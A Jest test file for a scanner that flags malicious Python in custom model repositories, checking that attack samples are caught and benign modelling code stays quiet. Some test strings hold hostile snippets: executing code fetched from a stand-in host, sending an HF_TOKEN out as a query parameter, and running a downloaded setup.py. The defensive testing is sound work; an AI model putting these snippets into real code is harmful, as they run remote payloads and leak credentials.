import { describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { scanPythonCode } from '../../src/code/scan-python.js';
import type { FindingDraft, Severity } from '../../src/types.js';

// Second-wave samples (fixtures/code/unseen, generate-unseen.ts): techniques from public
// write-ups that the first fixtures did not cover, and the look-alikes real modelling code uses.
const RANK: Record<Severity, number> = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };
const fixtures = new URL('../fixtures/code/unseen/', import.meta.url);
const read = (rel: string): string => readFileSync(new URL(rel, fixtures), 'utf8');
const worst = (fs: FindingDraft[]): number => Math.max(0, ...fs.map((f) => RANK[f.severity ?? 'info']));
const show = (fs: FindingDraft[]): string[] => fs.map((f) => `${f.rule} ${f.severity} ${f.message}`);

interface Entry {
  file: string;
  about: string;
  round: number;
  expect: { rule: string; severity: Severity }[];
}
const manifest = JSON.parse(read('manifest.json')) as Entry[];

describe('scanPythonCode on the second-wave malicious samples', () => {
  it('has at least 30 of them in the first round, and a second round written after the fixes', () => {
    expect(manifest.filter((m) => m.round === 1).length).toBeGreaterThanOrEqual(30);
    expect(manifest.filter((m) => m.round === 2).length).toBeGreaterThanOrEqual(20);
  });

  it.each(manifest.map((m) => [m.file, m] as const))('%s is caught with a sensible severity', async (_f, sample) => {
    const findings = await scanPythonCode(sample.file, read(sample.file));
    for (const e of sample.expect) {
      const hit = findings.find((f) => f.rule === e.rule && RANK[f.severity ?? 'info'] >= RANK[e.severity]);
      expect({ expected: e, found: hit ? 'yes' : show(findings) }).toEqual({ expected: e, found: 'yes' });
    }
  });
});

describe('look-alikes in real modelling code stay quiet', () => {
  const scan = (text: string): Promise<FindingDraft[]> => scanPythonCode('modeling_x.py', text, { role: 'entry' });

  it('asking nvcc for its version at import is medium, and using its output is not a new process', async () => {
    const fs = await scan('import subprocess\nfrom torch.utils import cpp_extension\n\ndef _ver(d):\n    out = subprocess.check_output([d + "/bin/nvcc", "-V"], universal_newlines=True)\n    parts = out.split()\n    return parts[parts.index("release") + 1]\n\nmajor = _ver(cpp_extension.CUDA_HOME)\n');
    const procs = fs.filter((f) => f.rule === 'MG584');
    expect(show(procs)).toHaveLength(1);
    expect(procs[0].severity).toBe('medium');
  });

  it('a tool probe with a shell or a URL is not a probe', async () => {
    const shell = await scan('import subprocess\nsubprocess.run(["nvcc", "-V"], shell=True)\n');
    expect(worst(shell)).toBe(RANK.critical);
    const url = await scan('import subprocess\nsubprocess.run(["ffmpeg", "-i", "http://198.51.100.9/x", "-f", "null", "-"])\n');
    expect(worst(url)).toBe(RANK.critical);
  });

  it('ffmpeg decoding audio in a processor method is low', async () => {
    const fs = await scan('import subprocess\n\nclass P:\n    def decode(self, path):\n        return subprocess.run(["ffmpeg", "-i", path, "-f", "s16le", "pipe:1"], capture_output=True).stdout\n');
    expect(worst(fs)).toBeLessThanOrEqual(RANK.low);
  });

  it('ordinary default arguments are not callables worth reporting', async () => {
    const fs = await scan('import torch\nimport torch.nn.functional as F\n\ndef block(x, act=F.gelu, loader=torch.load, eps=1e-6):\n    return act(x)\n\nf = lambda x, k=torch.softmax: k(x, -1)\n');
    expect(show(fs)).toEqual([]);
  });

  it('a default argument grabbed in a helper nothing calls is weighed as when called', async () => {
    const fs = await scan('import os\n\ndef debug(cmd, _run=os.system):\n    return _run(cmd)\n');
    const hit = fs.find((f) => f.rule === 'MG584');
    expect(hit?.severity).toBe('high');
  });

  it('downloading weights from the hub is not a finding; running a downloaded file is', async () => {
    const weights = await scan('import torch\nfrom huggingface_hub import hf_hub_download\n\nclass M:\n    def __init__(self):\n        p = hf_hub_download("org/vision-tower", "pytorch_model.bin")\n        self.sd = torch.load(p, map_location="cpu", weights_only=True)\n');
    expect(worst(weights)).toBeLessThanOrEqual(RANK.low);
    const runs = await scan('import runpy\nfrom huggingface_hub import hf_hub_download\n\np = hf_hub_download("org/x", "setup.py")\nrunpy.run_path(p)\n');
    expect(runs.find((f) => f.rule === 'MG593')?.severity).toBe('critical');
  });

  it('saving a checkpoint named .pth is a write, not a start-up hook', async () => {
    const fs = await scan('import torch\n\nclass M:\n    def save(self, d):\n        with open(d + "/model.pth", "wb") as f:\n            torch.save(self.state_dict(), f)\n');
    expect(fs.some((f) => f.rule === 'MG589')).toBe(false);
    expect(worst(fs)).toBeLessThanOrEqual(RANK.low);
  });

  it('kernels called through ctypes are native code, not processes', async () => {
    const fs = await scan('import ctypes, os\n\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), "libk.so"))\n_lib.gemm_fp8(1, 2)\n');
    expect(fs.some((f) => f.rule === 'MG584')).toBe(false);
    expect(fs.some((f) => f.rule === 'MG591')).toBe(true);
  });

  it('trust_remote_code passed through, or a sub-model from its own config, is not another repository', async () => {
    const through = await scan('from transformers import AutoTokenizer\n\nclass P:\n    @classmethod\n    def from_pretrained(cls, path, trust_remote_code=False, **kw):\n        tok = AutoTokenizer.from_pretrained(path, trust_remote_code=trust_remote_code)\n        return cls(tok)\n');
    expect(show(through)).toEqual([]);
    const sub = await scan('from transformers import AutoModel\n\nclass M:\n    def __init__(self, config):\n        self.llm = AutoModel.from_config(config.llm_config, trust_remote_code=True)\n        self.vit = AutoModel.from_pretrained(config.vision_tower, trust_remote_code=True)\n');
    expect(sub.map((f) => [f.line, f.severity])).toEqual([[5, 'low'], [6, 'medium']]);
    const fixed = await scan('from transformers import AutoModel\n\nclass M:\n    def __init__(self, config):\n        self.vit = AutoModel.from_pretrained("someone/vision-tower", trust_remote_code=True)\n');
    expect(fixed.find((f) => f.rule === 'MG585')?.severity).toBe('high');
  });

  it('a font fetched from a fixed address at import is high, not critical; a beacon or a payload stays critical', async () => {
    const font = await scan('import os, requests\n\nif not os.path.exists("SimSun.ttf"):\n    ttf = requests.get("https://cdn.example.com/assets/SimSun.ttf")\n    open("SimSun.ttf", "wb").write(ttf.content)\n');
    expect(font.find((f) => f.rule === 'MG586')?.severity).toBe('high');
    const beacon = await scan('import requests\nrequests.get("https://198.51.100.9/ping")\n');
    expect(beacon.find((f) => f.rule === 'MG586')?.severity).toBe('critical');
    const payload = await scan('import requests\nexec(requests.get("https://198.51.100.9/cfg.json").text)\n');
    expect(payload.find((f) => f.rule === 'MG593')?.severity).toBe('critical');
    const stolen = await scan('import os, requests\nrequests.get("https://198.51.100.9/v.json", params={"t": os.environ["HF_TOKEN"]})\n');
    expect(stolen.find((f) => f.rule === 'MG592')?.severity).toBe('critical');
  });

  it('exception and type tuples, isinstance checks and plugin registries are not tables of callables', async () => {
    const fs = await scan('import socket, requests, subprocess\n\ndef fetch(u):\n    try:\n        r = requests.get(u, timeout=3)\n    except (requests.exceptions.ConnectionError, socket.timeout, subprocess.CalledProcessError):\n        return None\n    if isinstance(r, (requests.Response,)) or isinstance(r, requests.Response):\n        return r.content\n\nclass Base:\n    @classmethod\n    def registry(cls):\n        return {c.__name__: c for c in cls.__subclasses__()}\n\nACTS = {"gelu": print, "relu": max}\n');
    expect(worst(fs)).toBeLessThanOrEqual(RANK.low);
  });

  it('a Thread subclass nobody starts is weighed as when called', async () => {
    const fs = await scan('import threading, subprocess\n\nclass Prefetch(threading.Thread):\n    def run(self):\n        subprocess.run(["sh", "-c", "id"])\n');
    expect(fs.find((f) => f.rule === 'MG584')?.severity).toBe('high');
  });

  it('loading weights with torch.load in custom code is not reported unless weights_only=False', async () => {
    const plain = await scan('import torch\n\nclass M:\n    def __init__(self, p):\n        self.sd = torch.load(p, map_location="cpu")\n        self.ok = torch.load(p, weights_only=True)\n');
    expect(show(plain)).toEqual([]);
    const unsafe = await scan('import torch\n\nclass M:\n    def __init__(self, p):\n        self.sd = torch.load(p, weights_only=False)\n');
    expect(unsafe.find((f) => f.rule === 'MG585')?.severity).toBe('high');
  });

  it('runpy of a package that is not pip stays dynamic code, not an install', async () => {
    const fs = await scan('import runpy\nrunpy.run_module("aurora_tools.convert")\n');
    expect(fs.some((f) => f.rule === 'MG590')).toBe(false);
    expect(fs.some((f) => f.rule === 'MG585')).toBe(true);
  });
});
